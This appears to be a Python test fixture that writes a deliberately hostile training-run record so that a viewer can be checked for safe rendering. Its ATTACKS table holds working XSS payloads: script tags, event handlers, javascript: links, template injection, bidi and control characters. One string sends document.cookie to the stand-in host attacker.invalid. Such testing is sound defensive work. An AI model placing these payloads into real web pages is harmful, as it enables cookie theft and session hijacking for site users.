"""A run in which an attacker wrote every text that a page shows."""

from __future__ import annotations

import json
from pathlib import Path

from fill import evaluation

from ragen.config.reading import dump, merge
from ragen.core.metrics import mean
from ragen.core.types import Completion, Episode, Group, Prompt, Turn, fingerprint
from ragen.storage.recorder import Recorder

ELSEWHERE = "http://attacker.invalid"
HIT = "window.hit = 1; alert(1); fetch(`//attacker.invalid/${document.cookie}`)"
"""Code that no page may execute."""

ATTACKS = {
    "script": f"<script>{HIT}</script><script src={ELSEWHERE}/x.js></script>",
    "handler": f'<img src=x onerror="{HIT}"><body onload="{HIT}"><b onmouseover="{HIT}">here</b>',
    "svg": f'<svg onload="{HIT}"><animate onbegin="{HIT}" attributeName=x dur=1s /></svg>',
    "link": f'<a href="javascript:{HIT}">here</a> [here](javascript:{HIT}) {ELSEWHERE}/page',
    "frame": f'<iframe srcdoc="<script>{HIT}</script>"></iframe><object data={ELSEWHERE}>',
    "page": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}"><base href="{ELSEWHERE}/">',
    "style": f"<style>@import '{ELSEWHERE}/x.css'; * {{ display: none !important }}</style>",
    "form": f'<form action="{ELSEWHERE}"><input autofocus onfocus="{HIT}"></form>',
    "entities": f"&lt;script&gt;{HIT}&lt;/script&gt; &#x3C;img src=x onerror='{HIT}'&#x3E;",
    "closing": f"</script></style></title></textarea>--> ]]> <!-- <script>{HIT}</script>",
    "template": f"${{{HIT}}} {{{{constructor.constructor('{HIT}')()}}}} `${{{HIT}}}` %3Cscript%3E",
    "json": f'"}}]}}; {HIT} // \u2028 {HIT}',
    "bidi": "safe \u202egnp.exe\u202c \u2066x\u2069 \u200e\u200f\u061c zero\u200bwidth\ufeff",
    "control": "\x00\x01\x07\x08\x0b\x1b[31mred\x1b]0;title\x07\x7f\x85\u2028\u2029 end",
    "surrogate": "half \ud83d a pair \udfff",
    "marks": "Z" + "\u0334\u0335\u0336\u0337\u0338" * 200,
}
"""The kind of an attack and a text that attempts it."""

LONG = "x" * 1_000_000
"""A line of 1 MB without a line break opportunity."""
MANY = 20_000
"""The number of tokens of the longest sequence."""


def turn(text: str, ids: tuple[int, ...] = (7, 8), prompt: tuple[int, ...] = (1, 2)) -> Turn:
    """A turn with `text` in every text field."""
    logprobs = (-0.5,) * len(ids)
    reply = f"{text}</think><answer>{text}</answer>"
    return Turn(
        observation=text,
        prompt=Prompt(({"role": "user", "content": text},), prompt, 0, 64, 1.0, 0),
        completion=Completion(ids, logprobs, reply, "stop", 0, fingerprint(ids, logprobs)),
        thought=text,
        thought_span=(0, 1),
        actions_asked=(text, "Up"),
        actions_executed=(text,),
        reward=0.5,
        penalty=-0.1,
        valid=False,
        state_key=text,
        snapshot={"text": text},
        drawing=("#<\u202e#", "_P\x07_"),
    )


def episode(number: int, *turns: Turn, text: str) -> Episode:
    """The only episode of group `number`."""
    return Episode(
        env=ATTACKS["handler"],
        level_seed=123,
        noise_seed=0,
        group=number,
        member=0,
        turns=turns,
        stop_reason="error",
        terminated=False,
        truncated=True,
        success=False,
        error=text,
        final_observation=text,
    )


def make_hostile(folder: Path) -> None:
    """Write the run: an episode of all attacks, one per attack, a long line, and many tokens."""
    texts = [" ".join(ATTACKS.values()), *ATTACKS.values(), LONG]
    ids = tuple(5 + index % 40 for index in range(MANY))
    many = episode(len(texts), turn("many tokens", ids), text="many tokens")
    groups = [Group((episode(n, turn(t), turn(t), text=t),)) for n, t in enumerate(texts)]
    everything = episode(0, *map(turn, ATTACKS.values()), text=texts[0])
    groups[0] = Group((everything,))
    folder.mkdir(parents=True)
    script = ATTACKS["script"]
    config = dump(merge("bandit")).replace('recipe = "bandit"', f"recipe = {json.dumps(script)}")
    with Recorder.create(folder, config, lambda _: script) as recorder:
        for step in (0, 1):
            recorder.log(step, {"success/mean": mean(0.5)})
            recorder.episodes(step, [*groups, Group((many,))], phase="eval")
            recorder.episodes(step, groups)
            recorder.commit()
            for text in list(ATTACKS.values())[:: (1, -1)[step]]:  # A chart shows the first few.
                clean = text.encode("utf-8", "replace").decode("utf-8")
                recorder.event(step, "alarm", clean, {"detector": clean})
            short = list(ATTACKS.values())
            scores = [[-1.0] * len(short)] * len(short)
            recorder.cross_scores(step, "first", scores, range(len(short)), short, short)
            sample = {"group": len(texts), "member": 0, "token_ids": ids}
            recorder.samples(step, [{**sample, "loss_mask": [True] * MANY}])
            recorder.evaluation(step, evaluation(0.5) | {"env": script, "target": script})
